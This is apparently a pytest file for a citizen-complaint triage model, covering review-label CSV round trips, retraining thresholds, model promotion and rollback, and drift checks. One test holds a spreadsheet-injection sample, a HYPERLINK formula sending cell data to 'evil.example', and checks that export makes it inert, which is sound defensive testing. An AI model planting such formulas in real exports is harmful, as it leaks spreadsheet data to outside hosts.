"""Edges of the feedback loop found by a review: a CSV returned untouched, corrections without a
language or a topic, rollback by directory and the registry alias, an unreadable champion pointer,
drift against the serving model, and spreadsheet formulas in exported text."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import numpy as np
import pytest

from training.retrain import split_corrections
from training.train import Dataset, TrainConfig, _splits, choose_thresholds, load_dataset
from triage.errors import DataError, ModelLoadError
from triage.io import read_records, write_jsonl
from triage.review_io import allowed_labels, export_queue, import_labels
from triage.rules import EmergencyRules
from triage.settings import get_settings
from triage.store import Store, ensure_schema
from triage.store.service import NewMessage

REPO = Path(__file__).resolve().parents[1]


@pytest.fixture
def env(tmp_path, monkeypatch):
    monkeypatch.setenv("TRIAGE_MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path}/mlflow.db")
    monkeypatch.setenv("TRIAGE_VAR_DIR", str(tmp_path / "var"))
    monkeypatch.setenv("TRIAGE_DATABASE_URL", f"sqlite:///{tmp_path / 'triage.db'}")
    get_settings.cache_clear()
    yield tmp_path
    get_settings.cache_clear()


def _store(tmp_path) -> Store:
    store = Store(f"sqlite:///{tmp_path}/t.db", quality_sample_rate=0.0)
    ensure_schema(store.engine)
    return store


def _pred(allowed, k=0, text_conf=0.3):
    labels = {h: sorted(allowed[h])[k] for h in ("topic", "authority", "urgency")}
    return {"language": "ru", "model_version": "m", "district": None, "needs_review": True,
            "reasons": ["topic_below_threshold"],
            **{h: {"label": v, "confidence": text_conf, "alternatives": [[v, text_conf]]} for h, v in labels.items()}}


def _copy_model(dst: Path, version: str) -> Path:
    shutil.copytree(REPO / "models" / "default", dst)
    m = json.loads((dst / "manifest.json").read_text())
    m["model_version"] = version
    (dst / "manifest.json").write_text(json.dumps(m))
    return dst


def test_a_csv_returned_untouched_never_reverts_a_correction_made_meanwhile(tmp_path):
    store, allowed = _store(tmp_path), allowed_labels()
    [s] = store.save_classified([NewMessage("яма на дороге", "web")], [_pred(allowed)])
    out = tmp_path / "round.csv"
    assert export_queue(store, "csv", out) == 1
    human = sorted(allowed["topic"])[1]
    store.add_correction(s.id, "web-reviewer", {"topic": human}, None, allowed)  # on the web page, meanwhile
    summary = import_labels(store, out, "csv", "team", allowed)
    assert summary["imported"] == 0 and store.get_message(s.id)["labels"]["topic"] == human


def test_a_csv_edit_adds_only_the_changed_field(tmp_path):
    store, allowed = _store(tmp_path), allowed_labels()
    [s] = store.save_classified([NewMessage("яма на дороге", "web")], [_pred(allowed)])
    out = tmp_path / "round.csv"
    export_queue(store, "csv", out)
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    new_urgency = sorted(allowed["urgency"])[1]
    rows[0]["urgency"] = new_urgency
    with out.open("w", encoding="utf-8-sig", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    assert import_labels(store, out, "csv", "team", allowed)["imported"] == 1
    (corr,) = store.get_message(s.id)["corrections"]
    assert corr["urgency"] == new_urgency and corr["topic"] is None and corr["authority"] is None


def test_exported_text_that_a_spreadsheet_would_run_is_made_inert(tmp_path):
    store, allowed = _store(tmp_path), allowed_labels()
    texts = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "+7 701 ...", "@SUM(A1)", "-1+1", "обычный текст"]
    store.save_classified([NewMessage(t) for t in texts], [_pred(allowed)] * len(texts))
    out = tmp_path / "round.csv"
    export_queue(store, "csv", out)
    got = sorted(r["text"] for r in csv.DictReader(out.open(encoding="utf-8-sig")))
    assert all(not t.startswith(("=", "+", "-", "@")) for t in got)
    assert "'=HYPERLINK(" in "".join(got) and "обычный текст" in got


def _corrections(n: int, **labels) -> list[dict]:
    from training.retrain import is_held_out

    ids = [i for i in range(10_000, 10_200) if not is_held_out(i)][:n]
    labeled = [{"id": i, "text": f"жол бұзылған {i}", "language": "kk",
                **{h: labels.get(h) for h in ("topic", "authority", "urgency", "district")}} for i in ids]
    return split_corrections(labeled)[0]


def test_corrections_without_a_language_keep_per_language_thresholds(tmp_path):
    rows = read_records(REPO / "data" / "samples" / "train.jsonl")[:600]
    path = tmp_path / "d.jsonl"
    write_jsonl(path, rows + _corrections(1, topic=rows[0]["topic"]))
    ds = load_dataset([path])
    assert ds.languages[-1] is None and ds.languages[0] in ("kk", "ru", "en")
    # Out-of-fold probabilities: right and sure on every labelled row, so every language qualifies.
    classes = sorted({t for t in ds.labels["topic"] if t})
    y = ds.labels["topic"]
    proba = np.array([[0.99 if c == t else 0.01 / (len(classes) - 1) for c in classes] for t in y])
    oof = {"classes": {"topic": classes}, "validated": np.ones(len(y), dtype=bool), "topic": proba}
    chosen = choose_thresholds(Dataset(ds.texts, {"topic": y}, ds.languages, "0", []), oof, TrainConfig(),
                               EmergencyRules({}))
    assert set(chosen["thresholds_by_language"]["topic"]) == {"en", "kk", "ru"}


def test_a_correction_without_a_topic_keeps_the_validation_folds(tmp_path):
    rows = read_records(REPO / "data" / "samples" / "train.jsonl")[:600]
    p0, p1 = tmp_path / "a.jsonl", tmp_path / "b.jsonl"
    write_jsonl(p0, rows)
    write_jsonl(p1, rows + _corrections(1, urgency="critical"))
    cfg = TrainConfig()
    assert len(_splits(load_dataset([p0]), cfg)) == len(_splits(load_dataset([p1]), cfg)) == cfg.folds


def test_rollback_by_directory_moves_the_registry_alias_too(env):
    import mlflow

    from training.tracking import log_training_run
    from triage.cli import main

    assert main(["db", "upgrade"]) == 0
    a, b, c = (_copy_model(env / n, n) for n in ("A", "B", "C"))
    va = log_training_run(json.loads((a / "manifest.json").read_text()), a, None, None)["registered_version"]
    vb = log_training_run(json.loads((b / "manifest.json").read_text()), b, None, None)["registered_version"]
    client = mlflow.MlflowClient()
    assert main(["promote", "--version", str(va)]) == 0
    assert main(["promote", "--version", str(vb)]) == 0
    assert main(["promote", "--model-dir", str(a), "--reason", "rollback"]) == 0
    assert str(client.get_model_version_by_alias("astana-triage", "champion").version) == str(va)
    pointer = json.loads(get_settings().champion_pointer_path().read_text())
    assert pointer["model_version"] == "A" and pointer["registry_version"] == str(va)
    # A model never registered: the alias is removed rather than left on one the service doesn't serve.
    assert main(["promote", "--model-dir", str(c), "--reason", "hotfix"]) == 0
    with pytest.raises(mlflow.exceptions.MlflowException):
        client.get_model_version_by_alias("astana-triage", "champion")


def test_an_unreadable_champion_pointer_is_refused_and_the_champion_keeps_serving(env):
    from api.app import ModelHolder, initial_engine
    from triage.champion import write_pointer
    from triage.smoke import load_checked

    s = get_settings()
    champ = _copy_model(env / "champ", "CHAMP-1")
    write_pointer(s, champ, "CHAMP-1")
    holder = ModelHolder(load_checked(champ, s), champ)
    s.champion_pointer_path().write_text('{"model_dir": "/tmp/rev')  # truncated
    with pytest.raises(ModelLoadError, match="unreadable champion pointer"):
        holder.reload(s)
    assert holder.current.version == "CHAMP-1"
    s.champion_pointer_path().write_text("[1, 2]")
    with pytest.raises(ModelLoadError, match="names no model directory"):
        holder.reload(s)
    # At start something must serve: the shipped model, with the refusal logged.
    engine, target = initial_engine(s, smoke=False)
    assert Path(target) == s.model_dir


def test_drift_judges_confidence_by_the_serving_champions_thresholds(env):
    from triage.champion import write_pointer
    from triage.cli import main

    assert main(["db", "upgrade"]) == 0
    champ = _copy_model(env / "champ", "CHAMP")
    m = json.loads((champ / "manifest.json").read_text())
    m["thresholds"], m["thresholds_by_language"] = {"topic": 0.123, "authority": 0.123, "urgency": 0.123}, {}
    (champ / "manifest.json").write_text(json.dumps(m))
    write_pointer(get_settings(), champ, "CHAMP")
    store = Store.from_settings()
    pred = {"language": "ru", "model_version": "CHAMP", "needs_review": False, "reasons": [],
            **{h: {"label": "x", "confidence": 0.5, "alternatives": []} for h in ("topic", "authority", "urgency")}}
    store.save_classified([NewMessage(text="нет света в подъезде")], [pred])
    store.dispose()
    out = env / "drift"
    assert main(["drift", "--since", "1d", "--train", str(REPO / "data" / "samples" / "test.jsonl"),
                 "--output", str(out)]) == 0
    assert json.loads((out / "drift.json").read_text())["confidence"]["topic"]["threshold"] == 0.123


def test_a_label_too_rare_to_train_is_held_back_from_retraining_not_fatal():
    from training.retrain import _hold_back_rare

    records = [{"text": "a", "topic": "roads"}, {"text": "b", "topic": "roads"}, {"text": "c", "topic": "snow"},
               {"text": "d", "topic": "roads", "urgency": "low"}, {"text": "e", "urgency": "low"}]
    notes = _hold_back_rare(records, 2)
    assert [r.get("topic") for r in records] == ["roads", "roads", None, "roads", None]
    assert [r.get("urgency") for r in records][-2:] == ["low", "low"]
    assert notes == ["topic: held back until at least 2 messages have it: 'snow' (1)"]


def test_promotion_by_directory_does_not_need_mlflow(env, monkeypatch):
    from training.retrain import promote
    from triage.cli import main

    monkeypatch.setenv("TRIAGE_MLFLOW_TRACKING_URI", "http://127.0.0.1:9/")  # nothing listens there
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    get_settings.cache_clear()
    assert main(["db", "upgrade"]) == 0
    a, b = _copy_model(env / "A", "A"), _copy_model(env / "B", "B")
    assert main(["promote", "--model-dir", str(a), "--reason", "registry down"]) == 0  # a warning, no failure
    assert json.loads(get_settings().champion_pointer_path().read_text())["model_version"] == "A"
    store = Store.from_settings()
    try:  # retrain --no-mlflow promotes without touching it at all
        promote(get_settings(), store, b, "retrain", use_mlflow=False)
    finally:
        store.dispose()
    assert json.loads(get_settings().champion_pointer_path().read_text())["model_version"] == "B"


def test_a_reload_asked_of_one_worker_reaches_the_others_within_seconds(env, monkeypatch):
    """POST /v1/admin/reload lands on one worker; it leaves a request file that every other worker's
    watcher looks at each second (here: a second app in the same process, with periodic checks off)."""
    import time

    from fastapi.testclient import TestClient

    from api.app import create_app
    from triage.champion import request_reload, write_pointer

    monkeypatch.setenv("TRIAGE_MODEL_CHECK_SECONDS", "0")
    get_settings.cache_clear()
    s = get_settings()
    with TestClient(create_app(s)) as other:
        before = other.app.state.models.current.version
        champ = _copy_model(env / "champ", "CHAMP-2")
        write_pointer(s, champ, "CHAMP-2")
        time.sleep(1.5)
        assert other.app.state.models.current.version == before  # no periodic check: nothing moves by itself
        request_reload(s)  # what the worker that answered POST /v1/admin/reload does
        deadline = time.time() + 30  # a second or two normally; generous for a loaded machine
        while other.app.state.models.current.version != "CHAMP-2":
            assert time.time() < deadline, "the other worker did not pick up the reload request"
            time.sleep(0.2)


def test_empty_label_strings_are_unlabelled_and_an_all_empty_column_is_no_head(tmp_path):
    """JSONL written from a spreadsheet may carry "" for a missing label: it is unlabelled (as an
    empty CSV cell is), and a column with nothing but "" is a head not trained, not a crash."""
    rows = read_records(REPO / "data" / "samples" / "train.jsonl")[:50]
    path = tmp_path / "d.jsonl"
    write_jsonl(path, [{**r, "topic": "" if i % 5 == 0 else r["topic"], "urgency": ""} for i, r in enumerate(rows)])
    ds = load_dataset([path])
    assert "urgency" not in ds.labels
    assert ds.labels["topic"][0] is None and ds.labels["topic"][1] == rows[1]["topic"]
    write_jsonl(path, [{"text": r["text"], "topic": ""} for r in rows])
    with pytest.raises(DataError, match="no label column"):
        load_dataset([path])
